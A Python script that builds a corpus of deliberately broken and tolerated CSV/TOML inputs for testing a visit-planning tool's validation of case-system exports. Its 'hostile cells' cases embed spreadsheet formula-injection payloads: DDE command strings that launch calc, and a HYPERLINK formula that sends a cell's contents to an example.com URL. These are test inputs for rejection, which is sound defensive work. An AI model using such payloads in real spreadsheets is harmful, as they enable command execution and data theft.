"""Write tests/data/bad/ and tests/data/tolerated/ from tests/data/tiny.

Each folder under `bad/` is the tiny team with one thing broken the way exports from
case-recording systems and spreadsheets really break; `planner` must refuse it (exit
code 2) with a message naming the file, the row (the header is row 1), the column and
what to do. Each folder under `tolerated/` is the tiny team written in a common variant
planner reads anyway (with a warning where it had to guess).

    python tests/data/make_bad_corpus.py           # rewrite both folders
    python tests/data/make_bad_corpus.py --check   # exit 1 if the committed folders are stale

The output depends on nothing but tiny and this file, so the folders are committed. The
"huge file" cases are made at test time instead (tests/io/test_bad_input.py), to keep the
repository small.
"""

from __future__ import annotations

import argparse
import csv
import filecmp
import io
import shutil
import sys
import tempfile
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

HERE = Path(__file__).resolve().parent
TINY = HERE / "tiny"
BAD = HERE / "bad"
TOLERATED = HERE / "tolerated"
LONDON = (HERE.parents[1] / "planner" / "model" / "policies" / "london.toml").read_text(encoding="utf-8")

Change = Callable[[Path], None]


# ---------------------------------------------------------------- changes to a copy of tiny


def read_rows(folder: Path, file: str) -> list[list[str]]:
    with open(folder / file, newline="", encoding="utf-8-sig") as handle:
        return list(csv.reader(handle))


def rows_text(rows: list[list[str]], delimiter: str = ",") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\n").writerows(rows)
    return buffer.getvalue()


def write_rows(folder: Path, file: str, rows: list[list[str]]) -> None:
    (folder / file).write_text(rows_text(rows), encoding="utf-8", newline="")


def edit_rows(file: str, edit: Callable[[list[list[str]]], None]) -> Change:
    def change(folder: Path) -> None:
        rows = read_rows(folder, file)
        edit(rows)
        write_rows(folder, file, rows)
    return change


def cell(file: str, row: int, column: str, value: str) -> Change:
    """Set one cell; `row` as a spreadsheet shows it (the header is row 1)."""
    def edit(rows: list[list[str]]) -> None:
        rows[row - 1][rows[0].index(column)] = value
    return edit_rows(file, edit)


def cells(*changes: Change) -> Change:
    def change(folder: Path) -> None:
        for each in changes:
            each(folder)
    return change


def rename_column(file: str, old: str, new: str) -> Change:
    def edit(rows: list[list[str]]) -> None:
        rows[0][rows[0].index(old)] = new
    return edit_rows(file, edit)


def drop_column(file: str, column: str) -> Change:
    def edit(rows: list[list[str]]) -> None:
        index = rows[0].index(column)
        rows[:] = [r[:index] + r[index + 1:] for r in rows]
    return edit_rows(file, edit)


def delete(file: str) -> Change:
    return lambda folder: (folder / file).unlink()


def content(file: str, data: str | bytes) -> Change:
    def change(folder: Path) -> None:
        raw = data.encode("utf-8") if isinstance(data, str) else data
        (folder / file).write_bytes(raw)
    return change


def replace(file: str, old: str, new: str) -> Change:
    def change(folder: Path) -> None:
        text = (folder / file).read_text(encoding="utf-8")
        assert old in text, (file, old)
        (folder / file).write_text(text.replace(old, new, 1), encoding="utf-8", newline="")
    return change


def redelimit(file: str, delimiter: str, decimal_comma: bool = False) -> Change:
    """The file saved with another separator (and decimal commas), as European Excel does."""
    def change(folder: Path) -> None:
        rows = read_rows(folder, file)
        if decimal_comma:
            rows = [[c.replace(".", ",") if c.replace(".", "").lstrip("-").isdigit() else c for c in r]
                    for r in rows]
        (folder / file).write_text(rows_text(rows, delimiter), encoding="utf-8", newline="")
    return change


def encode(file: str, encoding: str, prefix: bytes = b"") -> Change:
    def change(folder: Path) -> None:
        text = (folder / file).read_text(encoding="utf-8")
        (folder / file).write_bytes(prefix + text.encode(encoding))
    return change


def policy(old: str, new: str) -> Change:
    """The team uses custom.toml: the London policy with one change."""
    def change(folder: Path) -> None:
        assert old in LONDON, old
        (folder / "custom.toml").write_text(LONDON.replace(old, new, 1), encoding="utf-8")
        replace("team.toml", 'policy = "london"', 'policy = "custom.toml"')(folder)
    return change


def zip_bytes(members: dict[str, str]) -> bytes:
    """A zip file with fixed timestamps, so the corpus is byte-identical on every run."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in members.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0)), text)
    return buffer.getvalue()


WORKBOOK = zip_bytes({"[Content_Types].xml": '<?xml version="1.0"?><Types/>',
                      "xl/workbook.xml": '<?xml version="1.0"?><workbook/>'})


# ---------------------------------------------------------------- the broken folders


@dataclass(frozen=True)
class Case:
    """A broken team folder and the problem planner must report for it."""

    name: str
    story: str  # how this happens with real exports
    change: Change
    file: str
    row: int | None
    column: str | None
    words: str  # in the message
    hint_words: str = ""  # in the hint


W, C, S, A, T = "workers.csv", "children.csv", "schools.csv", "appointments.csv", "term_dates.csv"

CASES = [
    # -- files missing, empty or not CSV at all
    Case("missing-team-toml", "team.toml was not copied with the exports",
         delete("team.toml"), "team.toml", None, None, "missing", "Add team.toml"),
    Case("missing-workers", "the workers export was forgotten",
         delete(W), W, None, None, "missing", "Add workers.csv"),
    Case("missing-children", "the caseload export was saved elsewhere",
         delete(C), C, None, None, "missing", "Add children.csv"),
    Case("missing-schools", "children name schools but schools.csv was not exported",
         delete(S), S, None, None, "missing", "school_id"),
    Case("empty-children", "the export ran with no rows and wrote a 0-byte file",
         content(C, ""), C, None, None, "empty", "header row"),
    Case("blank-workers", "a file of blank lines from a failed export",
         content(W, "\n\n  \n"), W, None, None, "empty", "header row"),
    Case("header-only-children", "the caseload report was filtered to nothing",
         content(C, "child_id,name,date_of_birth,allocated_worker,category,lat,lon\n"),
         C, 2, None, "no data rows", "Add the children"),
    Case("xlsx-named-csv", "a workbook renamed to .csv instead of saved as CSV",
         content(W, WORKBOOK), W, None, None, "Excel workbook", "CSV UTF-8"),
    Case("xls-named-csv", "an old .xls file renamed to .csv",
         content(S, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)), S, None, None, ".xls", "CSV UTF-8"),
    Case("utf16-children", "saved from Excel as 'Unicode Text'",
         encode(C, "utf-16-le", b"\xff\xfe"), C, None, None, "UTF-16", "CSV UTF-8"),
    Case("html-children", "the case system's 'Export to Excel' wrote an HTML table",
         content(C, "<html><body><table><tr><td>child_id</td></tr></table></body></html>\n"),
         C, None, None, "HTML", "CSV UTF-8"),
    Case("duplicate-table", "schools exported twice, as CSV and as a workbook",
         content("schools.xlsx", WORKBOOK), S, None, None, "given 2 times", "Keep one of them"),
    Case("title-row-misspelt-column", "a report title above a header typed by hand",
         cells(rename_column(C, "category", "catgory"),
               edit_rows(C, lambda rows: rows.insert(0, ["Caseload report"] + [""] * (len(rows[0]) - 1)))),
         C, 2, "category", "missing",
         "Rename the column 'catgory'"),
    Case("corrupt-xlsx", "a workbook truncated while copying from email",
         cells(delete(W), content("workers.xlsx", WORKBOOK[:60])), "workers.xlsx", None, None,
         "cannot be read as an Excel workbook", "Save it again"),
    # -- headers
    Case("missing-column", "the report left out the allocated worker",
         drop_column(C, "allocated_worker"), C, 1, "allocated_worker", "missing", "allocated_worker"),
    Case("misspelt-column", "a header typed by hand",
         rename_column(C, "date_of_birth", "date_of_brith"), C, 1, "date_of_birth", "missing",
         "Rename the column 'date_of_brith'"),
    Case("misspelt-id-column", "a header typed by hand",
         rename_column(W, "worker_id", "wroker_id"), W, 1, "worker_id", "missing", "wroker_id"),
    Case("duplicate-column", "two report fields both headed 'name'",
         rename_column(W, "languages", "name"), W, 1, "name", "more than once", "one column"),
    Case("semicolon-workers", "saved by a European Excel, with ';' between columns",
         redelimit(W, ";"), W, 1, None, "separated by ';'", "comma delimited"),
    Case("semicolon-children-decimal-comma", "';' separators and decimal commas (51,5155)",
         redelimit(C, ";", decimal_comma=True), C, 1, None, "separated by ';'", "comma delimited"),
    Case("tab-separated-schools", "copied from a web page into a text file",
         redelimit(S, "\t"), S, 1, None, "tabs", "comma delimited"),
    Case("ragged-row", "an unquoted school name with a comma in it",
         replace(S, "Example Primary School", "Example Primary School, Bow"), S, 2, None,
         "more cells than the header", "double quotes"),
    Case("unclosed-quote", "a name with a stray double quote",
         replace(C, "Cleo Beta", '"Cleo Beta'), C, 4, None, "never closed", 'stray "'),
    # -- dates and times
    Case("excel-serial-dob", "a date column formatted as a number before saving",
         cell(C, 2, "date_of_birth", "42431"), C, 2, "date_of_birth", "Excel date number", "2016-03-02"),
    Case("excel-serial-last-seen", "a date column formatted as a number before saving",
         cell(C, 3, "last_seen", "45922"), C, 3, "last_seen", "Excel date number", "YYYY-MM-DD"),
    Case("excel-serial-appointment", "a diary export with serial dates",
         cell(A, 2, "date", "45937"), A, 2, "date", "Excel date number", "YYYY-MM-DD"),
    Case("us-date", "a spreadsheet set to US English",
         cell(C, 2, "last_seen", "09/22/2025"), C, 2, "last_seen", "month/day", "2025-09-22"),
    Case("date-in-words", "a date typed as text",
         cell(C, 4, "plan_start", "29 Sept 2025"), C, 4, "plan_start", "not a date", "YYYY-MM-DD"),
    Case("impossible-date", "30 February",
         cell(A, 3, "date", "2025-02-30"), A, 3, "date", "not a real date", "YYYY-MM-DD"),
    Case("year-typo", "a year typed as 3025",
         cell(C, 5, "last_seen", "3025-09-10"), C, 5, "last_seen", "too far in the future", "year"),
    Case("time-9am", "working hours typed as 9am",
         cell(W, 2, "start", "9am"), W, 2, "start", "not a time", "09:00"),
    Case("time-3-20pm", "school hours typed as 3.20pm",
         cell(S, 2, "day_end", "3.20pm"), S, 2, "day_end", "not a time", "15:20"),
    Case("time-with-dot", "a time typed as 10.00",
         cell(A, 2, "start", "10.00"), A, 2, "start", "not a time", "10:00"),
    # -- ids and references
    Case("duplicate-worker-id", "a worker listed twice after a team move",
         cell(W, 3, "worker_id", "W1"), W, 3, "worker_id", "twice", "its own worker_id"),
    Case("duplicate-child-id", "a child on two workers' caseloads in the report",
         cell(C, 5, "child_id", "C3"), C, 5, "child_id", "twice", "its own child_id"),
    Case("unknown-worker", "a child allocated to a worker who has left",
         cell(C, 5, "allocated_worker", "W9"), C, 5, "allocated_worker", "not in workers.csv", "worker_id"),
    Case("worker-name-not-id", "the report gives the worker's name, not their id",
         cell(C, 2, "allocated_worker", "Alex Example"), C, 2, "allocated_worker", "not in workers.csv",
         "did you mean 'W1'"),
    Case("unknown-school", "a school that is not in schools.csv",
         cell(C, 2, "school_id", "S9"), C, 2, "school_id", "not in schools.csv", "school_id"),
    Case("unknown-appointment-worker", "a diary entry of a worker from another team",
         cell(A, 3, "worker_id", "W7"), A, 3, "worker_id", "not in workers.csv", "worker_id"),
    Case("empty-required-cell", "a child with no name in the export",
         cell(C, 3, "name", ""), C, 3, "name", "empty", "Fill in name"),
    # -- places
    Case("lat-lon-swapped", "latitude and longitude columns swapped",
         cells(cell(C, 4, "lat", "-0.0034"), cell(C, 4, "lon", "51.5412")), C, 4, "lat", "swapped",
         "latitude"),
    Case("lat-out-of-range", "a latitude with a misplaced decimal point",
         cell(C, 5, "lat", "515.290"), C, 5, "lat", "outside the UK", "lat 49.8 to 60.9"),
    Case("lon-out-of-range", "a longitude typed without its minus sign far east",
         cell(W, 3, "base_lon", "5.2"), W, 3, "base_lon", "outside the UK", "lon -8.7 to 1.8"),
    Case("zero-location", "an address the export could not geocode, written as 0,0",
         cells(cell(C, 3, "lat", "0"), cell(C, 3, "lon", "0")), C, 3, "lat", "not a real place",
         "postcode"),
    Case("decimal-comma", "a latitude with a decimal comma, in quotes",
         cell(C, 2, "lat", "51,5155"), C, 2, "lat", "not a number", "51.5155"),
    # -- intervals, categories, policies
    Case("zero-interval", "visit_every of 0",
         cell(C, 5, "visit_every", "0 working days"), C, 5, "visit_every", "at least 1", "10 working days"),
    Case("negative-interval", "visit_every typed with a minus sign",
         cell(C, 5, "visit_every", "-5 working days"), C, 5, "visit_every", "at least 1", "10 working days"),
    Case("interval-in-words", "visit_every as a word",
         cell(C, 5, "visit_every", "fortnightly"), C, 5, "visit_every", "not an interval", "6 weeks"),
    Case("unknown-category", "a category code from another system",
         cell(C, 4, "category", "CPP"), C, 4, "category", "not a category", "CP, CIN"),
    Case("category-in-words", "the category written out",
         cell(C, 5, "category", "Child in Need"), C, 5, "category", "not a category", "CIN"),
    Case("unknown-policy", "a policy name that is not built in",
         replace("team.toml", 'policy = "london"', 'policy = "manchester"'), "team.toml", None,
         "planning.policy", "no built-in policy", "london"),
    Case("malformed-team-toml", "a value typed without quotes",
         replace("team.toml", 'region = "ENG"', "region = ENG"), "team.toml", None, None,
         "not valid TOML", "quotes"),
    Case("malformed-policy-toml", "a bracket left open in the policy file",
         policy("[durations]", "[durations"), "custom.toml", None, None, "not valid TOML", "brackets"),
    Case("policy-unknown-visit-type", "a requirement met by 'phone' visits",
         policy('by = ["home"] } ]\n[categories.CIN]', 'by = ["phone"] } ]\n[categories.CIN]'),
         "custom.toml", None, "categories.CP.requirements[1].by", "not a visit type", "home"),
    Case("policy-zero-interval", "a requirement every 0 weeks",
         policy('every = "6 weeks", first', 'every = "0 weeks", first'), "custom.toml", None,
         "categories.LAC.requirements[1].every", "at least 1", "6 weeks"),
    Case("policy-unknown-category", "a category the contract does not know",
         policy("[categories.PF]", "[categories.EH]"), "custom.toml", None, "categories.EH",
         "not a category", "CP"),
    Case("bad-region", "Wales written as WAL",
         replace("team.toml", '"ENG"', '"WAL"'), "team.toml", None, "region", "not a region", "ENG"),
    Case("bad-horizon", "a horizon of 0 weeks",
         replace("team.toml", "horizon_weeks = 2", "horizon_weeks = 0"), "team.toml", None,
         "planning.horizon_weeks", "not a valid", "from 1 to 8"),
    # -- hours and windows
    Case("home-window-too-short", "a 45-minute window for a 60-minute visit",
         cell(C, 3, "home_window", "16:00-16:45"), C, 3, "home_window", "cannot hold a visit", "60 minutes"),
    Case("home-window-backwards", "a window typed end first",
         cell(C, 3, "home_window", "18:00-15:30"), C, 3, "home_window", "ends before", "HH:MM-HH:MM"),
    Case("worker-hours-backwards", "a worker whose hours end before they start",
         cell(W, 3, "end", "08:00"), W, 3, "end", "not after its start", "later than start"),
    Case("worker-hours-12h-clock", "5pm typed as 05:00",
         cell(W, 2, "end", "05:00"), W, 2, "end", "not after its start", "later than start"),
    Case("school-hours-backwards", "school day end before its start",
         cell(S, 2, "day_end", "08:00"), S, 2, "day_end", "not after its start", "later than day_start"),
    Case("zero-max-visits", "a cap of 0 visits a day",
         cell(W, 3, "max_visits_per_day", "0"), W, 3, "max_visits_per_day", "positive", "3"),
    Case("bad-working-days", "a day name misspelt",
         cell(W, 3, "working_days", "Mon;Teu;Thu"), W, 3, "working_days", "not a day", "Mon-Fri"),
    Case("bad-boolean", "joint_visit as 'maybe'",
         cell(C, 3, "joint_visit", "maybe"), C, 3, "joint_visit", "yes or no", "yes or no"),
    Case("term-backwards", "a term that ends before it starts",
         cell(T, 3, "end", "2025-10-01"), T, 3, "end", "before it starts", "on or after start"),
    # -- hostile cells
    Case("formula-in-name", "a name cell holding a spreadsheet formula",
         cell(C, 2, "name", '=HYPERLINK("http://example.com/x?d="&A1,"Ada Alpha")'), C, 2, "name",
         "formula", "Remove the leading '='"),
    Case("formula-in-kind", "a DDE payload in an appointment",
         cell(A, 2, "kind", "=cmd|' /C calc'!A0"), A, 2, "kind", "formula", "Remove the leading '='"),
    Case("formula-at-sign", "an @-formula in a worker's name",
         cell(W, 3, "name", "@SUM(1+1)*cmd|' /C calc'!A0"), W, 3, "name", "formula", "'@'"),
    Case("formula-in-languages", "a formula hidden in a language list",
         cell(W, 2, "languages", "English;+1+cmd|' /C calc'!A0"), W, 2, "languages", "formula",
         "plain language names"),
    Case("formula-team-name", "a team name that is a formula",
         replace("team.toml", 'name = "Tiny Test Team"', 'name = "=HYPERLINK(\\"http://x\\")"'),
         "team.toml", None, "name", "formula", "plain name"),
    Case("huge-cell", "a notes field pasted into a name",
         cell(C, 4, "name", "Cleo " * 1000), C, 4, "name", "characters long", "at most 1,000"),
]


# ---------------------------------------------------------------- variants read anyway


@dataclass(frozen=True)
class Variant:
    """The tiny team written another way; it must read as `same_as` (tiny plus a change)."""

    name: str
    story: str
    change: Change
    warns: tuple[tuple[str, int | None, str | None], ...] = ()  # (file, row, column) warned about
    same_as: Change | None = None  # applied to tiny for the expected team


def _all_csv(each: Callable[[str], Change]) -> Change:
    def change(folder: Path) -> None:
        for path in sorted(folder.glob("*.csv")):
            each(path.name)(folder)
    return change


def _crlf(file: str) -> Change:
    def change(folder: Path) -> None:
        data = (folder / file).read_bytes()
        (folder / file).write_bytes(data.replace(b"\n", b"\r\n"))
    return change


def _pad(file: str) -> Change:
    def edit(rows: list[list[str]]) -> None:
        rows[:] = [[f" {c}  " if c else c for c in r] for r in rows]
    return edit_rows(file, edit)


VARIANTS = [
    Variant("bom", "Excel's 'CSV UTF-8' starts each file with a byte-order mark",
            _all_csv(lambda f: encode(f, "utf-8", b"\xef\xbb\xbf"))),
    Variant("crlf", "Windows line endings", _all_csv(_crlf)),
    Variant("trailing-spaces", "cells and headers padded with spaces", _all_csv(_pad)),
    Variant("header-case", "headers as a report writes them",
            cells(rename_column(W, "worker_id", "Worker ID"), rename_column(C, "date_of_birth", "Date of Birth"),
                  rename_column(C, "allocated_worker", "ALLOCATED_WORKER"))),
    Variant("uk-dates", "dates as 30/11/2026 from a UK spreadsheet",
            cells(cell(C, 2, "last_seen", "22/09/2025"), cell(C, 4, "date_of_birth", "30/11/2011"),
                  cell(T, 2, "start", "3/9/2025")),
            warns=((C, 2, "last_seen"), (C, 4, "date_of_birth"), (T, 2, "start"))),
    Variant("weekday-names", "working days written out",
            cells(cell(W, 2, "working_days", "Monday - Friday"), cell(W, 3, "working_days", "mon, TUES, thurs"))),
    Variant("excel-datetimes", "dates with midnight times and times with seconds",
            cells(cell(C, 2, "last_seen", "2025-09-22 00:00:00"), cell(W, 3, "start", "08:30:00"),
                  cell(S, 2, "day_start", "8:50"))),
    Variant("word-forms", "booleans, categories, intervals and windows in other forms",
            cells(cell(C, 3, "joint_visit", "YES"), cell(C, 2, "joint_visit", "N"), cell(C, 4, "category", "lac"),
                  cell(C, 5, "visit_every", "15 Working Days"), cell(C, 3, "home_window", "15:30 \u2013 18:00"),
                  cell(W, 3, "travel_mode", "Cycle"))),
    Variant("windows-1252", "a CSV saved by an older Excel in Windows encoding",
            cells(cell(C, 2, "name", "Zo\u00eb Alpha"), encode(C, "cp1252")), warns=((C, None, None),),
            same_as=cell(C, 2, "name", "Zo\u00eb Alpha")),
    Variant("title-rows", "a report title and a blank line above the header",
            content(C, "Caseload report for Tiny Test Team\n\n" + (TINY / C).read_text(encoding="utf-8")),
            warns=((C, 1, None),)),
    Variant("extra-columns-and-blank-rows", "report columns planner does not use, and blank lines",
            cells(edit_rows(C, lambda rows: [r.append("notes" if n == 0 else "seen at school")
                                             for n, r in enumerate(rows)]),
                  replace(W, "W2,", "\n,,,,,,,,,\nW2,"))),
]


# ---------------------------------------------------------------- writing


def build(case: Case | Variant, root: Path) -> Path:
    folder = root / case.name
    shutil.copytree(TINY, folder)
    case.change(folder)
    return folder


def _readme(title: str, intro: str, lines: list[str]) -> str:
    return f"# {title}\n\n{intro}\n\n" + "\n".join(lines) + "\n"


def write_all(root: Path) -> None:
    """Write bad/ and tolerated/ under `root`."""
    bad, tolerated = root / BAD.name, root / TOLERATED.name
    for case in CASES:
        build(case, bad)
    for variant in VARIANTS:
        build(variant, tolerated)
    where = lambda c: ", ".join(str(x) for x in (c.file, c.row and f"row {c.row}", c.column) if x)
    (bad / "README.md").write_text(_readme(
        "Broken team folders", "Written by `tests/data/make_bad_corpus.py` (do not edit by hand): "
        "tests/data/tiny with one thing broken each. `planner validate` must refuse every one "
        "with exit code 2 and name the place below.",
        ["| folder | what went wrong | reported at |", "|---|---|---|"]
        + [f"| {c.name} | {c.story} | {where(c)} |" for c in CASES]), encoding="utf-8")
    (tolerated / "README.md").write_text(_readme(
        "Variants planner reads", "Written by `tests/data/make_bad_corpus.py`: tests/data/tiny "
        "written another way; each reads as tiny does (a warning where planner had to guess).",
        ["| folder | variant |", "|---|---|"] + [f"| {v.name} | {v.story} |" for v in VARIANTS]),
        encoding="utf-8")


def stale(root: Path) -> list[str]:
    """Differences between freshly written folders under `root` and the committed ones."""
    differences = []
    for name in (BAD.name, TOLERATED.name):
        stack = [filecmp.dircmp(root / name, HERE / name)]
        while stack:
            comparison = stack.pop()
            differences += [f"{comparison.left}/{f}" for f in comparison.left_only + comparison.diff_files]
            differences += [f"{comparison.right}/{f}" for f in comparison.right_only]
            _, mismatch, errors = filecmp.cmpfiles(comparison.left, comparison.right,
                                                   comparison.common_files, shallow=False)
            differences += [f"{comparison.right}/{f}" for f in mismatch + errors
                            if f"{comparison.left}/{f}" not in differences]
            stack += comparison.subdirs.values()
    return sorted(set(differences))


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--check", action="store_true", help="only check the committed folders")
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory() as temporary:
        write_all(Path(temporary))
        if args.check:
            differences = stale(Path(temporary))
            for difference in differences:
                print(f"stale: {difference}")
            return 1 if differences else 0
        for name in (BAD.name, TOLERATED.name):
            shutil.rmtree(HERE / name, ignore_errors=True)
            shutil.copytree(Path(temporary) / name, HERE / name)
    print(f"wrote {len(CASES)} folders to {BAD} and {len(VARIANTS)} to {TOLERATED}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
